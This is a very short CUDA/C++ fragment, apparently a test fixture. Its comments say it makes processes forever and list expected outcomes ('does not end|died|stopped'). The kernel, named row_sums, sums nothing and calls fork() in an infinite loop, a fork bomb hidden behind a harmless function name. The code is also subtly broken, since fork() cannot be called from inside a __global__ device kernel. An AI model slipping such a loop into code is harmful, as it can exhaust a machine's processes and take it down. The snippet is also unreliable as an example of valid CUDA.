// Makes processes for ever.
// says: does not end|died|stopped
extern "C" int fork();
__global__ void row_sums(const float* x, float* sums, int n) {
  for (;;) fork();
}
